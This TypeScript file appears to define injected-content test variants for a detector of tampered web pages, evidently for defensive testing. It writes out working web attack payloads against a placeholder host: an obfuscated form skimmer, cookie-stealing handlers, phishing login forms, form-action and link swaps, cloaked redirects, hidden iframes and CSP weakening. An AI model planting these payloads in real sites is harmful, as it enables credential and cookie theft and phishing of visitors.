/** Attacks on what the page loads, frames, submits to and links to: every one must be told. */
import { edited, type Variant } from './variant.js';

const injection = (name: string, apply: Variant['apply'], seenIn: Variant['seenIn'] = 'raw'): Variant => ({
  name,
  family: 'attack',
  seenIn,
  aim: 'injection',
  apply,
});

const EVIL = 'https://cdn-metrics.badhost.example';

/** As a skimmer reads: gathers what is typed and sends it off. */
const SKIMMER = `document.addEventListener('submit',function(e){var d={};new FormData(e.target).forEach(function(v,k){d[k]=v});navigator.sendBeacon('${EVIL}/c',JSON.stringify(d))},true);`;

const appended = (html: string): Variant['apply'] =>
  edited(($) => {
    $('body').append(html);
    return true;
  });

export const INJECTIONS: readonly Variant[] = [
  injection(
    'external-script',
    edited(($) => {
      $('head').append(`<script src="${EVIL}/a.js"></script>`);
      return true;
    }),
  ),
  injection(
    'external-script-at-known-cdn',
    edited(($, { random }) => {
      // A host half the web loads from, and this page did not.
      $('head').append(`<script src="https://cdn.jsdelivr.net/gh/user${random.hex(5)}/x@1/p.js" async></script>`);
      return !$.html().includes('cdn.jsdelivr.net/npm');
    }),
  ),
  injection('inline-script', appended(`<script>${SKIMMER}</script>`)),
  injection(
    'inline-script-obfuscated',
    edited(($) => {
      $('body').append(
        `<script>(function(_0x1){eval(atob(_0x1))})("${Buffer.from(SKIMMER).toString('base64')}")</script>`,
      );
      return true;
    }),
  ),
  injection(
    'appended-to-own-inline-script',
    edited(($) => {
      const own = $('script:not([src])').first();
      own.text(`${own.text()};${SKIMMER}`);
      return own.length > 0;
    }),
  ),
  injection(
    'frame-hidden',
    appended(
      `<iframe src="${EVIL}/x.html" width="1" height="1" style="border:0;position:absolute;left:-99px"></iframe>`,
    ),
  ),
  injection('frame-visible', appended(`<iframe src="${EVIL}/win.html" width="600" height="300"></iframe>`)),
  injection(
    'frame-inline-document',
    appended(`<iframe srcdoc="&lt;script&gt;top.location='${EVIL}'&lt;/script&gt;" style="display:none"></iframe>`),
  ),
  injection('object-embedded', appended(`<object data="${EVIL}/p.swf" width="1" height="1"></object>`)),
  injection(
    'form-action-swapped',
    edited(($) => {
      const form = $('form').first();
      form.attr('action', `${EVIL}/collect`);
      return form.length > 0;
    }),
  ),
  injection(
    'button-formaction-added',
    edited(($) => {
      const button = $('form button,form input[type=submit]').first();
      button.attr('formaction', `${EVIL}/collect`);
      return button.length > 0;
    }),
  ),
  injection(
    'phishing-form-off-site',
    appended(
      `<form action="${EVIL}/login" method="post"><label>Session expired, sign in again</label><input name="user"><input type="password" name="pass"><button>Sign in</button></form>`,
    ),
  ),
  injection(
    'phishing-form-own-site',
    appended(
      '<form action="/wp-content/uploads/.x/login.php" method="post"><label>Session expired, sign in again</label><input name="user"><input type="password" name="pass"><button>Sign in</button></form>',
    ),
  ),
  injection('redirect-http', (scene) => ({
    ...scene,
    redirect: `${EVIL}/landing`,
    html: '<!doctype html><html><head><title>Win a phone</title></head><body><h1>Win a phone</h1><p>Answer three questions.</p></body></html>',
  })),
  injection(
    'redirect-meta',
    edited(($) => {
      $('head').prepend(`<meta http-equiv="refresh" content="9;url=${EVIL}/landing">`);
      return true;
    }),
  ),
  injection(
    'redirect-script',
    appended(`<script>setTimeout(function(){location.replace("${EVIL}/landing")},9000)</script>`),
  ),
  injection(
    'redirect-for-searchers',
    appended(`<script>if(/google|bing/.test(document.referrer))window.location="${EVIL}/"</script>`),
  ),
  injection(
    'link-swapped',
    edited(($, { random }) => {
      const links = $('main a[href],a[href]').filter(
        (_, element) => $(element).text().trim().length > 3 && !/^#/.test($(element).attr('href') ?? '#'),
      );
      if (links.length === 0) return false;
      links.eq(random.below(links.length)).attr('href', `${EVIL}/go`);
      return true;
    }),
  ),
  injection(
    'download-link-swapped-same-site',
    edited(($, { random }) => {
      const links = $('a[href]').filter(
        (_, element) => $(element).text().trim().length > 3 && !/^#/.test($(element).attr('href') ?? '#'),
      );
      if (links.length === 0) return false;
      links.eq(random.below(links.length)).attr('href', '/uploads/.cache/setup.exe');
      return true;
    }),
  ),
  injection(
    'off-site-link-added',
    appended('<p><a href="https://cheap-pills.badshop.example/">cheap pills online</a></p>'),
  ),
  injection(
    'hidden-search-links',
    appended(
      `<div style="position:absolute;left:-9999px">${['casino', 'slots', 'betting', 'poker'].map((word) => `<a href="https://${word}.spamlinks.example/">${word} online bonus</a>`).join(' ')}</div>`,
    ),
  ),
  injection(
    'links-in-noscript',
    appended('<noscript><a href="https://slot.spamlinks.example/">situs slot gacor</a></noscript>'),
  ),
  injection(
    'media-source-swapped',
    edited(($) => {
      const media = $('video,audio,source').first();
      media.attr('src', `${EVIL}/live.m3u8`);
      return media.length > 0;
    }),
  ),
  injection(
    'media-source-other-stream',
    edited(($) => {
      const media = $('video[src]').first();
      media.attr('src', (media.attr('src') ?? '').replace('master.m3u8', 'other-channel.m3u8'));
      return media.length > 0;
    }),
  ),
  injection(
    'favicon-swapped-off-site',
    edited(($) => {
      $('link[rel~=icon]').remove();
      $('head').append(`<link rel="icon" href="${EVIL}/i.ico">`);
      return true;
    }),
  ),
  injection(
    'favicon-swapped-same-site',
    edited(($) => {
      const had = $('link[rel~=icon]').length > 0;
      $('link[rel~=icon]').attr('href', '/uploads/skull.ico');
      return had;
    }),
  ),
  injection(
    'style-sheet-swapped',
    edited(($) => {
      const sheet = $('link[rel=stylesheet]').first();
      sheet.attr('href', `${EVIL}/s.css`).removeAttr('integrity');
      return sheet.length > 0;
    }),
  ),
  injection(
    'base-href',
    edited(($) => {
      $('base').remove();
      $('head').prepend(`<base href="${EVIL}/">`);
      return true;
    }),
  ),
  injection(
    'service-worker',
    appended(
      "<script>navigator.serviceWorker&&navigator.serviceWorker.register('/uploads/sw.js',{scope:'/'})</script>",
    ),
  ),
  injection(
    'event-handler',
    edited(($) => {
      const link = $('a[href]').first();
      link.attr('onclick', `new Image().src='${EVIL}/t?'+document.cookie`);
      return link.length > 0;
    }),
  ),
  injection(
    'image-error-handler',
    appended(
      `<img src="/x" onerror="var s=document.createElement('script');s.src='${EVIL}/a.js';document.head.append(s)" style="display:none">`,
    ),
  ),
  injection(
    'javascript-link',
    edited(($) => $('a[href]').first().attr('href', `javascript:fetch('${EVIL}/?'+document.cookie)`).length > 0),
  ),
  injection('policy-header-removed', (scene) => ({
    ...scene,
    headers: scene.headers.filter(([name]) => name !== 'content-security-policy'),
  })),
  injection('policy-header-opened', (scene) => ({
    ...scene,
    headers: scene.headers.map(
      ([name, value]) =>
        [
          name,
          name === 'content-security-policy' ? `default-src * data: 'unsafe-inline' 'unsafe-eval' ${EVIL}` : value,
        ] as const,
    ),
  })),
  injection('message-box', appended('<script>alert("You have been warned")</script>')),
];
